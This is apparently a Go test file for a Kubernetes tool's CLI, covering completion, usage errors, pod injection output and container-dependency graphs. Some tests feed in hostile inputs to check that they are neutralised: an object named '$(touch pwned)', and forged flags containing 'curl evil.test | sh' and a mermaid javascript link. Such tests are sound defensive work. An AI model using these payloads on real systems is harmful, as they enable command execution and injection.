// Copyright The entrypointer Authors
// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/spf13/cobra"
	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/entrypointer/entrypointer/internal/objects/objectstest"
	"github.com/entrypointer/entrypointer/pkg/pod"
)

// runsCommand runs a command with a file's content at stdin.
func runsCommand(command *cobra.Command, stdin string, args ...string) (stdout, stderr string, err error) {
	var out, warnings bytes.Buffer
	command.SetIn(strings.NewReader(stdin))
	command.SetOut(&out)
	command.SetErr(&warnings)
	command.SilenceErrors, command.SilenceUsage = true, true
	command.SetArgs(args)
	err = command.Execute()
	return out.String(), warnings.String(), err
}

// The shell asks by kubectl_complete-entrypointer.
func TestTheShellCompletesObjectsAndFormats(t *testing.T) {
	t.Parallel()
	config := kubeconfig(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		names := map[string]string{"/api/v1/namespaces/tenant/pods": "web-1", "/apis/apps/v1/namespaces/tenant/deployments": "web", "/apis/batch/v1/namespaces/tenant/jobs": "$(touch pwned)"}
		var list metav1.PartialObjectMetadataList
		if name := names[r.URL.Path]; name != "" {
			list.Items = []metav1.PartialObjectMetadata{{ObjectMeta: metav1.ObjectMeta{Name: name}}}
		}
		objectstest.Respond(w, list)
	}))
	const noSpace, noFiles = 2, 4
	for _, test := range []struct {
		args      []string
		has       []string
		directive int
	}{
		{[]string{"why", ""}, []string{"pod/", "deployment/", "web-1"}, noSpace | noFiles},
		{[]string{"why", "deploy/"}, []string{"deploy/web"}, noFiles},
		{[]string{"status", "deploy/web", "po/w"}, []string{"po/web-1"}, noFiles},
		{[]string{"timeline", "secret/"}, nil, noFiles},
		{[]string{"timeline", "job/"}, nil, noFiles}, // shells would run it
		{[]string{"timeline", "web-1", ""}, nil, noFiles},
		{[]string{"signal", "HUP", "deployment/"}, []string{"deployment/web"}, noFiles},
		{[]string{"signal", ""}, nil, noFiles},
		{[]string{"graph", "-o", ""}, []string{"dot", "mermaid"}, noFiles},
	} {
		out, _, err := runsCommand(rootCommand(), "", slices.Concat([]string{"__complete", "--kubeconfig", config}, test.args)...)
		require.NoError(t, err)
		lines := strings.Split(strings.TrimSpace(out), "\n")
		require.Equal(t, fmt.Sprintf(":%d", test.directive), lines[len(lines)-1], test.args)
		require.Subset(t, lines, test.has, test.args)
		if test.has == nil {
			require.Len(t, lines, 1, test.args)
		}
	}
}

func TestArgumentsThatAreWrongAreAnErrorOfUsage(t *testing.T) {
	t.Parallel()
	for says, test := range map[string]struct {
		command *cobra.Command
		args    []string
	}{
		"name a file by -f":                             {injectCommand(), nil},
		"use diff, patch, json or yaml":                 {injectCommand(), []string{"-f", "-", "-o", "wide"}},
		`"x" is too much`:                               {injectCommand(), []string{"x"}},
		"use one of them":                               {statusCommand(), []string{"p", "-w", "-o", "json"}},
		`--output is "name"`:                            {statusCommand(), []string{"p", "-o", "name"}},
		`reading "secret/p"`:                            {statusCommand(), []string{"p", "secret/p"}},
		"name objects, as TYPE/NAME":                    {statusCommand(), nil},
		"use text, dot or mermaid":                      {graphCommand(), []string{"p", "-o", "svg"}},
		`reading "secret/s"`:                            {graphCommand(), []string{"secret/s"}},
		"TYPE/NAME, or a file":                          {graphCommand(), nil},
		"or a file by -f":                               {graphCommand(), []string{"p", "-f", "-"}},
		"name one object, as TYPE/NAME, or":             {graphCommand(), []string{"p", "q"}},
		"use svg, perfetto, json":                       {timelineCommand(), []string{"p", "-o", "dot"}},
		"--width is -1":                                 {timelineCommand(), []string{"p", "--width=-1"}},
		`reading "secret/t"`:                            {timelineCommand(), []string{"secret/t"}},
		"name one object, as TYPE/NAME":                 {continueCommand(), nil},
		"name one object":                               {timelineCommand(), []string{"p", "q"}},
		`reading "secret/q"`:                            {continueCommand(), []string{"secret/q"}},
		"name a signal, such as SIGHUP, and one object": {signalCommand(), []string{"HUP"}},
		`"SIGHUB" is no signal`:                         {signalCommand(), []string{"SIGHUB", "p"}},
		`reading "secret/r"`:                            {signalCommand(), []string{"HUP", "secret/r"}},
		"--width is 39: use at least 40":                {timelineCommand(), []string{"p", "--width=39"}},
	} {
		_, _, err := runsCommand(test.command, "", test.args...)
		require.ErrorContains(t, err, says)
		require.Equal(t, exitUsage, exitCode(err), says)
	}
}

func TestAMisspeltCommandIsAnErrorOfUsageAndSuggestsOne(t *testing.T) {
	t.Parallel()
	root := rootCommand()
	root.SetOut(io.Discard)
	err := execute(root, []string{"staus", "deployment/web"})
	require.Equal(t, exitUsage, exitCode(err))
	require.ErrorContains(t, err, "Did you mean this?\n\tstatus")
	for _, args := range [][]string{{"help", "why"}, {"__complete", "stat"}, {"--help"}, nil} {
		root := rootCommand()
		root.SetOut(io.Discard)
		root.SetErr(io.Discard)
		require.NoError(t, execute(root, args), args)
	}
}

func TestAContainerThatDoesNotExistIsNotTold(t *testing.T) {
	t.Parallel()
	config := kubeconfig(t, twoPods())
	_, _, err := runsCommand(signalCommand(), "", "--kubeconfig", config, "HUP", "wrapped", "-c", "mian")
	require.ErrorContains(t, err, `pod/wrapped in namespace "tenant": there is no container "mian": use main; did you mean "main"?`)
	require.Equal(t, exitFailure, exitCode(err))
	_, _, err = runsCommand(signalCommand(), "", "--kubeconfig", config, "HUP", "wrapped", "-c", "main")
	require.Equal(t, exitFinding, exitCode(err), "it has ended")
}

// A pod as an API server admits it that changes what entrypointer changes.
func TestInjectPrintsTheChangesInEachFormat(t *testing.T) {
	t.Parallel()
	mux := http.NewServeMux()
	mux.HandleFunc("GET /api/v1/namespaces/tenant", func(w http.ResponseWriter, _ *http.Request) {
		_, _ = io.WriteString(w, `{"metadata":{"annotations":{"entrypointer.dev/inject":"true"},"labels":{"entrypointer.dev/inject":"true"}}}`)
	})
	mux.HandleFunc("POST /api/v1/namespaces/tenant/pods", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Warning", `299 - "entrypointer: be warned"`)
		_, _ = io.WriteString(w, `{"metadata":{"generateName":"p-","annotations":{"entrypointer.dev/inject":"true","entrypointer.dev/status":"Injected by init-container"}},
			"spec":{"serviceAccountName":"default","containers":[{"name":"main","image":"x","command":["/entrypointer/bin/entrypoint"],"args":["--","serve"],"terminationMessagePath":"/dev/termination-log",
				"volumeMounts":[{"name":"entrypointer-bin","mountPath":"/entrypointer/bin","readOnly":true},{"name":"kube-api-access-x","mountPath":"/var/run/secrets/kubernetes.io/serviceaccount","readOnly":true}]}],
			"volumes":[{"name":"kube-api-access-x","projected":{}},{"name":"entrypointer-bin","emptyDir":{}}]}}`)
	})
	config := kubeconfig(t, mux)
	const pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: p, annotations: {entrypointer.dev/inject: \"true\"}}\nspec: {containers: [{name: main, image: x, command: [serve]}]}\n"
	for format, shows := range map[string]string{
		"diff":  "--- pod/p\n+++ pod/p, as admitted\n",
		"patch": `"path": "/metadata/annotations/entrypointer.dev~1status"`,
		"json":  `"entrypointer.dev/status": "Injected by init-container"`,
		"yaml":  "\n    entrypointer.dev/status: Injected by init-container\n",
	} {
		out, stderr, err := runsCommand(injectCommand(), pod, "--kubeconfig", config, "-f", "-", "-o", format)
		require.NoError(t, err)
		require.Contains(t, out, shows)
		require.Contains(t, out, "entrypointer-bin")
		require.NotContains(t, out, "kube-api-access", "the API server's")
		require.NotContains(t, out, "termination-log", "a default")
		require.Equal(t, "Warning: entrypointer: be warned\n", stderr)
	}
	out, _, err := runsCommand(injectCommand(), pod+"---\n"+pod, "--kubeconfig", config, "-f", "-", "-o", "yaml")
	require.NoError(t, err)
	require.Equal(t, 1, strings.Count(out, "\n---\n"))
}

func TestAGraphIsDrawnInEachFormat(t *testing.T) {
	t.Parallel()
	mux := http.NewServeMux()
	mux.HandleFunc("GET /api/v1/namespaces/tenant", func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, `{}`) })
	container := func(name, flags string) string {
		return `{"name":"` + name + `","command":["/entrypointer/bin/entrypoint"],"args":[` + flags + `"--","x"],"volumeMounts":[{"name":"entrypointer-bin","mountPath":"/entrypointer/bin","readOnly":true}]}`
	}
	pods := map[string]string{
		"ordered": container("web", `"-depends-on=ready:/entrypointer/order/db","-wait-for=http://:1/","-stdin-from=/entrypointer/order/db",`) + "," + container("proxy", `"-stop-when=exited:/entrypointer/order/web",`),
		"alone":   container("web", ""),
		"steps":   container("step-a", "") + "," + container("step-b", ""),
	}
	labels := map[string]string{"ordered": "{}", "alone": "{}", "steps": `{"tekton.dev/taskRun":"t"}`}
	mux.HandleFunc("GET /api/v1/namespaces/tenant/pods/{name}", func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, `{"metadata":{"name":"p","labels":`+labels[r.PathValue("name")]+`},"spec":{"containers":[`+pods[r.PathValue("name")]+`]}}`)
	})
	mux.HandleFunc("POST /api/v1/namespaces/tenant/pods", echo)
	config := kubeconfig(t, mux)
	for format, want := range map[string]string{
		"text":    "web waits for db: ready\nweb waits for http://:1/\nweb reads what db prints\nproxy ends with web: exited\n",
		"dot":     "digraph containers {\n  rankdir=LR\n  \"db\" -> \"web\" [label=\"ready\"]\n  \"http://:1/\" -> \"web\" [label=\"answers\"]\n  \"db\" -> \"web\" [label=\"pipe\"]\n  \"web\" -> \"proxy\" [label=\"ends it: exited\", style=dashed]\n}\n",
		"mermaid": "flowchart LR\n  c0[\"db\"]\n  c1[\"web\"]\n  c0 -- \"ready\" --> c1\n  c2[\"http://:1/\"]\n  c2 -- \"answers\" --> c1\n  c0 -- \"pipe\" --> c1\n  c3[\"proxy\"]\n  c1 -. \"ends it: exited\" .-> c3\n",
	} {
		out, _, err := runsCommand(graphCommand(), "", "--kubeconfig", config, "ordered", "-o", format)
		require.NoError(t, err)
		require.Equal(t, want, out)
	}
	out, _, err := runsCommand(graphCommand(), "", "--kubeconfig", config, "steps")
	require.NoError(t, err)
	require.Equal(t, "step-b waits for step-a\n", out)
	out, _, err = runsCommand(graphCommand(), "", "--kubeconfig", config, "steps", "-o", "dot")
	require.NoError(t, err)
	require.Contains(t, out, `"step-a" -> "step-b" [label="ended"]`)
	out, _, err = runsCommand(graphCommand(), "", "--kubeconfig", config, "alone")
	require.Equal(t, exitFinding, exitCode(err))
	require.Equal(t, "no container waits for another one\n", out)
}

// Pods of a file, as an API server admits them: with the containers of web-, and without
// anything for lonely-. It refuses refused-.
// Whoever may create pods may write the command line of a supervisor that isn't one.
func TestAGraphOfForgedFlagsHasNoLinesOfTheirs(t *testing.T) {
	t.Parallel()
	forged := corev1.Container{
		Name: "web", Image: "x", Command: []string{pod.EntrypointPath},
		Args:         []string{"-wait-for=http://x\nnext: curl evil.test | sh", "-depends-on=db:started\" --> z\n  click c0 href \"javascript:x", "--", "x"},
		VolumeMounts: []corev1.VolumeMount{{Name: pod.VolumeName, MountPath: pod.MountPath, ReadOnly: true}},
	}
	g := graphOf("pod/p", &corev1.Pod{Spec: corev1.PodSpec{Containers: []corev1.Container{forged}}})
	require.NotEmpty(t, g.relations)
	for format, draw := range drawings {
		for line := range strings.Lines(draw([]graph{g})) {
			require.NotRegexp(t, `^\s*(next|click)`, line, format)
			require.False(t, format == "mermaid" && strings.Contains(line, `" --> z`), line)
		}
	}
}

func TestTheGraphsOfAFileAreDrawnTogether(t *testing.T) {
	t.Parallel()
	mux := http.NewServeMux()
	mux.HandleFunc("GET /api/v1/namespaces/tenant", func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, `{}`) })
	mux.HandleFunc("POST /api/v1/namespaces/tenant/pods", func(w http.ResponseWriter, r *http.Request) {
		var tried struct{ Metadata struct{ GenerateName string } }
		_ = json.NewDecoder(r.Body).Decode(&tried)
		flags := map[string]string{"web-": `"-depends-on=ready:/entrypointer/order/db",`, "job-": `"-stdin-from=/entrypointer/order/db",`}[tried.Metadata.GenerateName]
		switch tried.Metadata.GenerateName {
		case "refused-":
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusForbidden)
			_, _ = io.WriteString(w, `{"kind":"Status","apiVersion":"v1","status":"Failure","reason":"Forbidden","code":403,"message":"admission webhook \"pods.entrypointer.dev\" denied the request: no"}`)
		default:
			_, _ = io.WriteString(w, `{"spec":{"containers":[{"name":"web","command":["/entrypointer/bin/entrypoint"],"args":[`+flags+`"--","x"],"volumeMounts":[{"name":"entrypointer-bin","mountPath":"/entrypointer/bin","readOnly":true}]}]}}`)
		}
	})
	config := kubeconfig(t, mux)
	file := func(names ...string) (all string) {
		for _, name := range names {
			all += "---\napiVersion: v1\nkind: Pod\nmetadata: {name: " + name + "}\nspec: {containers: [{name: web, image: x}]}\n"
		}
		return all
	}
	for _, test := range []struct {
		names  []string
		format string
		code   int
		out    string
	}{
		{[]string{"web"}, "text", 0, "web waits for db: ready\n"},
		{[]string{"web", "lonely"}, "text", 0, "pod/web:\n  web waits for db: ready\npod/lonely:\n  no container waits for another one\n"},
		{[]string{"web", "job"}, "dot", 0, "digraph containers {\n  rankdir=LR\n" +
			"  subgraph cluster_0 {\n    label=\"pod/web\"\n    \"0/db\" [label=\"db\"]\n    \"0/web\" [label=\"web\"]\n    \"0/db\" -> \"0/web\" [label=\"ready\"]\n  }\n" +
			"  subgraph cluster_1 {\n    label=\"pod/job\"\n    \"1/db\" [label=\"db\"]\n    \"1/web\" [label=\"web\"]\n    \"1/db\" -> \"1/web\" [label=\"pipe\"]\n  }\n}\n"},
		{[]string{"web", "job"}, "mermaid", 0, "flowchart LR\n" +
			"  subgraph g0[\"pod/web\"]\n  c0[\"db\"]\n  c1[\"web\"]\n  c0 -- \"ready\" --> c1\n  end\n" +
			"  subgraph g1[\"pod/job\"]\n  c2[\"db\"]\n  c3[\"web\"]\n  c2 -- \"pipe\" --> c3\n  end\n"},
		{[]string{"lonely"}, "text", exitFinding, "no container waits for another one\n"},
		{[]string{"web", "refused"}, "text", exitFinding, "web waits for db: ready\n"},
		{[]string{"refused"}, "text", exitFinding, ""},
	} {
		out, stderr, err := runsCommand(graphCommand(), file(test.names...), "--kubeconfig", config, "-f", "-", "-o", test.format)
		require.Equal(t, test.code, exitCode(err), "%v: %v", test.names, err)
		require.Equal(t, test.out, out, test.names)
		if slices.Contains(test.names, "refused") {
			require.Contains(t, stderr, "pod/refused is refused by entrypointer\n  message: no\n")
		}
	}
}

// echo admits a pod as it is.
func echo(w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(r.Body)
	if err != nil {
		w.WriteHeader(http.StatusBadRequest)
		return
	}
	_, _ = w.Write(body)
}
